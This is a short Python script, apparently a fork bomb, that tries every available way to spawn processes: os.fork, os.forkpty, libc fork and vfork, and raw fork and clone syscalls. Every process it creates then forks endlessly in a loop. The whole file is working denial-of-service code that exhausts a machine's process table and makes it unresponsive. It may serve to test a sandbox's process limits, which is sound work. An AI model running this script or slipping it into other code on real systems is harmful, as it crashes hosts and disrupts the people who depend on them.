"""Forks for ever, by each way there is."""
import ctypes
import os

libc = ctypes.CDLL(None)
for _ in range(3):
    for fork in (os.fork, os.forkpty, libc.fork, libc.vfork, lambda: libc.syscall(57), lambda: libc.syscall(56, 17, 0)):
        try:
            made = fork()
        except OSError:
            continue
        made = made[0] if isinstance(made, tuple) else made
        while made >= 0:
            libc.fork()
